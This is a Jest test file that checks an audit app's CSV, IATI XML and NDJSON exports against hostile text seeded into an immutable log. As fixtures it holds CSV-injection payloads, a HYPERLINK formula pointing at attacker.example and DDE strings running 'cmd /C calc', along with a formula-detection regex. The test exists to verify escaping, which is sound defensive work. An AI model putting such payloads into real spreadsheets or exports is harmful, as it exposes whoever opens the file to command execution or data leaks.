import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { validateXML } from 'xmllint-wasm';
import { AuditApp, openAuditApp } from './harness';
import { seedFundingStory, seedReversedTranche } from './seed';

jest.setTimeout(120_000);

const iatiDir = join(__dirname, '../../../shared/iati/2.03');
const schemaFile = (name: string) => ({
  fileName: name,
  contents: readFileSync(join(iatiDir, name), 'utf8'),
});

/** What a spreadsheet runs when a cell starts with it (OWASP, CSV injection). */
const FORMULA_START = /^[=+\-@\t\r]/;
const hyperlink = '=HYPERLINK("http://attacker.example/?x","open")';
const dde = "-2+3+cmd|' /C calc'!A0";

/** The columns whose cells are numbers, not text: a negative amount must stay a number there. */
const numericTags = [
  '#value+funding',
  '#value+expected',
  '#value+received',
  '#indicator+code+iati_transaction',
  '#meta+position',
  '#meta+revision',
];

describe.each(['postgres', 'pglite'] as const)('exports of a log that holds hostile text, on %s', (kind) => {
  let audit: AuditApp;

  beforeAll(async () => {
    audit = await openAuditApp(kind);
    // Text that reached the log before any input rule refused it: the log is immutable, so the exports must cope.
    const story = await seedFundingStory(audit.store, 1, 'KE', {
      organizationName: hyperlink,
      requestTitle: 'Mediation \u0001\u000b in Kisumu',
      requestDescription: 'Dialogue \uFFFE between \uFFFF parties',
      reference: '\t=1+1',
      expenditureDescription: "@SUM(1+1)*cmd|' /C calc'!A0\u0002",
    });
    await seedReversedTranche(audit.store, story, { reference: '+TR-2', reason: dde });
    await audit.settle();
  });
  afterAll(() => audit?.close());

  it('escapes every text cell that a spreadsheet would run as a formula, and nothing else', async () => {
    const text = await (await audit.get('/v1/audit/export/funding.csv')).text();
    const [header, hxl, ...rows] = parse(text, { relax_column_count: false }) as string[][];
    expect(header[0]).toBe('value_date');
    expect(hxl).toEqual([
      '#date',
      '#status',
      '#indicator+code+iati_transaction',
      '#org+name+funder',
      '#org+code+funder',
      '#org+name+impl',
      '#org+code+impl',
      '#value+funding',
      '#currency',
      '#country+code',
      '#sector+track',
      '#activity+code',
      '#activity+code+request',
      '#meta+disbursement',
      '#meta+reference',
      '#value+expected',
      '#value+received',
      '#description',
      '#date+recorded',
      '#meta+position',
      '#meta+stream',
      '#meta+revision',
    ]);
    expect(rows.length).toBeGreaterThanOrEqual(6);
    const numeric = new Set(numericTags.map((tag) => hxl.indexOf(tag)));
    for (const row of rows)
      row.forEach((cell, column) => {
        if (!numeric.has(column))
          expect({ column: hxl[column], cell, runsAsFormula: FORMULA_START.test(cell) }).toEqual({
            column: hxl[column],
            cell,
            runsAsFormula: false,
          });
      });
    const at = (row: string[], tag: string) => row[hxl.indexOf(tag)];
    // The text is kept, behind one apostrophe: what OWASP prescribes and spreadsheets hide.
    expect(rows.every((row) => at(row, '#org+name+impl') === `'${hyperlink}`)).toBe(true);
    expect(rows.filter((row) => at(row, '#meta+reference') === "'\t=1+1")).not.toHaveLength(0);
    expect(rows.find((row) => at(row, '#status') === 'spent')![hxl.indexOf('#description')]).toBe(
      "'@SUM(1+1)*cmd|' /C calc'!A0\u0002",
    );
  });

  it('keeps a reversal a negative number that a spreadsheet adds up, unescaped and unquoted', async () => {
    const text = await (await audit.get('/v1/audit/export/funding.csv')).text();
    const [, hxl, ...rows] = parse(text) as string[][];
    const reversal = rows.find((row) => row[hxl.indexOf('#status')] === 'reversed')!;
    expect(reversal[hxl.indexOf('#value+funding')]).toBe('-10000.00');
    expect(reversal[hxl.indexOf('#meta+reference')]).toBe("'+TR-2");
    expect(reversal[hxl.indexOf('#description')]).toBe(`Tranche reversed: ${dde}`);
    const line = text.split(/\r?\n/).find((row) => row.includes(',reversed,'))!;
    expect(line).toContain(',-10000.00,USD,');
  });

  it('writes IATI XML that a strict parser accepts and the 2.03 schema validates, forbidden characters replaced', async () => {
    const xml = await (await audit.get('/v1/audit/export/iati')).text();
    const result = await validateXML({
      xml: [{ fileName: 'export.xml', contents: xml }],
      schema: [schemaFile('iati-activities-schema.xsd')],
      preload: [schemaFile('iati-common.xsd'), schemaFile('xml.xsd')],
    });
    expect(result.errors).toEqual([]);
    expect(result.valid).toBe(true);
    expect(xml).toContain('<narrative>Mediation \uFFFD\uFFFD in Kisumu</narrative>');
    expect(xml).toContain('<narrative>Dialogue \uFFFD between \uFFFD parties</narrative>');
    expect(xml).toContain("@SUM(1+1)*cmd|' /C calc'!A0\uFFFD");
    expect(xml).toContain(
      '=HYPERLINK(&quot;http://attacker.example/?x&quot;,&quot;open&quot;)'.replace(/&quot;/g, '"'),
    );
  });

  it('leaves the NDJSON export exactly as stored, the forbidden characters included', async () => {
    const lines = (await (await audit.get('/v1/audit/export?category=request')).text())
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.find((event) => event.type === 'HelpRequestPublished').data.title).toBe(
      'Mediation \u0001\u000b in Kisumu',
    );
  });
});
